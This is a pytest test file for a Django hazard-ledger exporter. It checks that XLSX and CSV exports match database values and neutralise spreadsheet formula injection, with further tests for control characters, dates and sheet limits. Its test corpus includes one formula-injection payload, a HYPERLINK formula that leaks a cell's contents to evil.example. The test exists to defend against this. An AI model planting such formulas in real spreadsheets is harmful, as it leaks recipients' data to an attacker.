"""The streamed exports (hazards.xlsx_stream, hazards.exports) read back with openpyxl and the csv
module: each cell equals the value stored in the database (read here with ``values()``, not through
the exporter), with the documented transformations only — XML-illegal characters removed, text
that a spreadsheet would run as a formula kept as text (xlsx: quotePrefix; CSV: a leading '),
dates as real dates, empty values as empty cells."""

import csv
import datetime
import decimal
import io
import operator
import re
import zipfile

import pytest
from openpyxl import load_workbook

from hazards import xlsx_stream
from hazards.exports import HEADERS, Column, export_ledger, write_csv, write_xlsx
from hazards.models import Hazard
from hazards.tests.conftest import make_general

TODAY = datetime.date(2026, 6, 15)
# XML 1.0 Char production: #x9 | #xA | #xD | [#x20-#xD7FF] | [#xE000-#xFFFD] | [#x10000-#x10FFFF]
FORBIDDEN = {chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, 0xFFFE, 0xFFFF)}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FULLWIDTH = ("＝", "＋", "－", "＠")

# description, location, responsible person of each hazard of the corpus
TEXTS = [
    ("消防通道被占用，安全出口锁闭", "仓库二层", "张三"),
    ('=HYPERLINK("http://evil.example/?"&A2,"点击查看")', "+86 22 1234", "@李四"),
    ("-1", "", "王五"),
    ("含<标签>与&符号 \"引号\" 'x'", "\t制表符开头", ""),
    ("\r回车开头\n第二行", "字面量_x0041_不是转义", "＝全角等号"),
    ("铃\x07与\x1f单元\x0b分隔\x0c", "  前后空格  ", "尾随空格 "),
    ("😀 四字节字符 𠀀", "－全角减号", "＠全角"),
]


def _stored(value: str) -> str:
    """What a legacy row can hold: PostgreSQL refuses NUL in text."""
    from django.db import connection

    return value.replace("\x00", "") if connection.vendor == "postgresql" else value


@pytest.fixture
def corpus(world):
    from standards.models import Item

    item = Item.objects.order_by("pk").first()
    hazards = []
    for i, (description, location, person) in enumerate(TEXTS):
        h = make_general(world, description="占位")
        Hazard.objects.filter(pk=h.pk).update(
            description=_stored(description), location=location, responsible_person=person,
            found_on=datetime.date(2026, 1, 31) + datetime.timedelta(days=29 * i),
            original_deadline=None if i % 2 else datetime.date(1999, 12, 31) + datetime.timedelta(days=i),
            township_code="" if i % 2 else "120105001", basis_item=item if i % 3 == 0 else None)
        hazards.append(h.pk)
    return hazards


def _as_excel_shows(value):
    """A cell's text as Excel shows it: ECMA-376 ST_Xstring's _xHHHH_ escapes decoded (openpyxl
    leaves them as written)."""
    if isinstance(value, str):
        return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)
    return value


def _xlsx_expected(value):
    """(value openpyxl reads, quotePrefix) for a value from the database."""
    if value is None:
        return None, False
    if isinstance(value, datetime.date):
        return datetime.datetime(value.year, value.month, value.day), False
    text = "".join(ch for ch in value if ch not in FORBIDDEN)
    if not text:
        return None, False
    return text, text.startswith(TRIGGERS + FULLWIDTH)


def _csv_expected(value) -> str:
    if value is None:
        return ""
    if isinstance(value, datetime.date):
        return value.isoformat()
    text = "".join(ch for ch in value if ch not in FORBIDDEN)
    return "'" + text if text.startswith(TRIGGERS + FULLWIDTH) else text  # Excel reads ＝ as = too


RAW = {"隐患描述": "description", "隐患部位": "location", "整改责任人": "responsible_person", "发现日期": "found_on",
       "整改期限": "deadline", "原定整改期限": "original_deadline", "乡级代码": "township_code", "县级代码": "county_code",
       "生产经营单位": "enterprise__name", "统一社会信用代码": "enterprise__credit_code",
       "判定依据条款编码": "basis_item__code"}


def _database_rows(pks):
    return {v["pk"]: v for v in Hazard.objects.filter(pk__in=pks).values("pk", *RAW.values())}


@pytest.mark.django_db
def test_ledger_xlsx_cells_equal_the_database_values(corpus, tmp_path):
    path = tmp_path / "ledger.xlsx"
    qs = Hazard.objects.filter(pk__in=corpus).order_by("pk")
    assert export_ledger(qs, path, "xlsx", today=TODAY) == len(corpus)
    stored = _database_rows(corpus)
    ws = load_workbook(path).active
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]] == HEADERS and all(c.font.b for c in rows[0])
    assert len(rows) == 1 + len(corpus)
    checked = 0
    for pk, cells in zip(corpus, rows[1:], strict=True):
        by_header = dict(zip(HEADERS, cells, strict=True))
        assert by_header["隐患编号"].value.endswith(f"-{pk:07d}")
        for header, field in RAW.items():
            cell, (value, quoted) = by_header[header], _xlsx_expected(stored[pk][field])
            assert _as_excel_shows(cell.value) == value, (pk, header, cell.value, value)
            assert bool(cell.quotePrefix) == quoted, (pk, header)
            assert cell.data_type != "f"
            if isinstance(value, datetime.datetime):
                assert cell.is_date and cell.number_format == "yyyy-mm-dd"
            checked += 1
    assert checked == len(corpus) * len(RAW)
    # the corpus holds what the test claims to check
    values = [v for row in stored.values() for v in row.values()]
    assert "" in values and None in values and any(isinstance(v, datetime.date) for v in values)
    assert any(isinstance(v, str) and v.startswith("=") for v in values)


@pytest.mark.django_db
def test_ledger_csv_cells_equal_the_database_values(corpus, tmp_path):
    path = tmp_path / "ledger.csv"
    qs = Hazard.objects.filter(pk__in=corpus).order_by("pk")
    assert export_ledger(qs, path, "csv", today=TODAY) == len(corpus)
    stored = _database_rows(corpus)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == HEADERS and len(rows) == 1 + len(corpus)
    for pk, cells in zip(corpus, rows[1:], strict=True):
        by_header = dict(zip(HEADERS, cells, strict=True))
        for header, field in RAW.items():
            assert by_header[header] == _csv_expected(stored[pk][field]), (pk, header)


def test_generic_xlsx_writer_keeps_numbers_dates_booleans_and_text(tmp_path):
    # a naive date-time is local time already (core.lists hands local times over); an aware one is
    # shown in Asia/Shanghai — both typed, to the minute, as the pages show them
    when = datetime.datetime(2026, 5, 1, 23, 30, 15, 123456)
    aware = datetime.datetime(2026, 5, 1, 15, 30, 59, tzinfo=datetime.UTC)  # 23:30 in Beijing
    values = [7, -2.5, decimal.Decimal("12.50"), True, datetime.date(2026, 2, 28), when, "中文", "=1+1", None, "", aware]
    cols = [Column(f"列{i}", operator.itemgetter(i)) for i in range(len(values))]
    path = tmp_path / "generic.xlsx"
    assert write_xlsx([values], cols, path) == 1
    row = [c for c in next(load_workbook(path).active.iter_rows(min_row=2))]
    assert [c.value for c in row] == [7, -2.5, 12.5, True, datetime.datetime(2026, 2, 28), datetime.datetime(2026, 5, 1, 23, 30),
                                      "中文", "=1+1", None, None, datetime.datetime(2026, 5, 1, 23, 30)]
    assert row[5].number_format == row[10].number_format == "yyyy-mm-dd hh:mm"
    assert row[7].data_type == "s" and row[7].quotePrefix


def test_generic_csv_writer_quotes_formulas_and_drops_control_characters(tmp_path):
    values = [7, datetime.date(2026, 2, 28), "=1+1", "a\x00b\x1fc", None, "中文"]
    cols = [Column(f"列{i}", operator.itemgetter(i)) for i in range(len(values))]
    path = tmp_path / "generic.csv"
    assert write_csv([values], cols, path) == 1
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    assert rows[1] == ["7", "2026-02-28", "'=1+1", "abc", "", "中文"]


def test_xlsx_text_is_cut_at_excel_cell_limit_and_sheet_is_well_formed(tmp_path):
    from xml.dom import minidom

    long = "长" * 40000
    path = tmp_path / "long.xlsx"
    xlsx_stream.write_rows(path, ["a", "b"], [10, 10], [xlsx_stream.TEXT, xlsx_stream.TEXT],
                           [(long, "x & y"), ("_x000D_", "\ud800孤立代理")], sheet="台账[1]/2")
    with zipfile.ZipFile(path) as zf:
        assert zf.testzip() is None
        for name in zf.namelist():
            if name.endswith(".xml") or name.endswith(".rels"):
                minidom.parseString(zf.read(name))  # every part is well-formed XML
    wb = load_workbook(path)
    ws = wb.active
    assert ws.title == "台账_1__2"
    assert len(ws["A2"].value) == 32767 and ws["B2"].value == "x & y"
    assert ws["B3"].value == "孤立代理"
    with zipfile.ZipFile(path) as zf:  # Excel decodes _xHHHH_ in any text: a literal one is escaped
        assert "<t>_x005F_x000D_</t>" in zf.read("xl/worksheets/sheet1.xml").decode()


def test_xlsx_writer_reports_progress_and_counts_rows(tmp_path):
    seen = []
    n = xlsx_stream.write_rows(tmp_path / "p.xlsx", ["n"], [8], [xlsx_stream.auto_cell], ((i,) for i in range(4500)),
                               progress=seen.append, every=2000)
    assert n == 4500 and seen == [2000, 4000]
    ws = load_workbook(tmp_path / "p.xlsx", read_only=True).active
    assert [r[0] for r in ws.iter_rows(min_row=2, values_only=True)] == list(range(4500))


def test_a_sheet_holds_excels_row_limit_and_further_rows_continue_on_further_sheets(tmp_path):
    """Excel's worksheet has 1,048,576 rows (Microsoft, "Excel specifications and limits"): the
    header and 1,048,575 data rows. Beyond that (shown here with 3 data rows a sheet) the rows go
    on to sheets named 台账（2）, 台账（3）…, each with the header, none lost or repeated; a
    long name is cut so that its suffix fits Excel's 31 characters."""
    from python_calamine import CalamineWorkbook

    assert xlsx_stream.SHEET_ROWS == 1_048_576 - 1
    columns = [Column("序号", operator.itemgetter(0)), Column("内容", operator.itemgetter(1))]
    rows = [(i, f"第{i}行") for i in range(1, 8)]
    path = tmp_path / "split.xlsx"
    written = xlsx_stream.write_rows(path, [c.header for c in columns], [10, 10], [xlsx_stream.auto_cell] * 2,
                                     iter(rows), sheet="台账", sheet_rows=3)
    assert written == 7
    wb = load_workbook(path)
    assert wb.sheetnames == ["台账", "台账（2）", "台账（3）"]
    sheets = [list(ws.iter_rows(values_only=True)) for ws in wb.worksheets]
    assert all(s[0] == ("序号", "内容") for s in sheets)
    assert [r for s in sheets for r in s[1:]] == rows
    assert [len(s) - 1 for s in sheets] == [3, 3, 1]
    calamine = CalamineWorkbook.from_path(str(path))  # the import's reader agrees
    assert calamine.sheet_names == wb.sheetnames
    assert [r[1] for r in calamine.get_sheet_by_index(2).to_python()[1:]] == ["第7行"]
    # exactly full sheets: no empty sheet after them; no rows at all: one sheet with the header
    assert xlsx_stream.write_rows(path, ["a"], [5], [xlsx_stream.auto_cell], iter([(1,), (2,), (3,)]), sheet_rows=3) == 3
    assert len(load_workbook(path).sheetnames) == 1
    assert xlsx_stream.write_rows(path, ["a"], [5], [xlsx_stream.auto_cell], iter([]), sheet_rows=3) == 0
    assert [list(ws.iter_rows(values_only=True)) for ws in load_workbook(path).worksheets] == [[("a",)]]
    long = "很长的工作表名称" * 5
    names = xlsx_stream.sheet_names(long, 12)
    assert names[0] == long[:31] and names[11] == long[:27] + "（12）" and all(len(n) <= 31 for n in names)
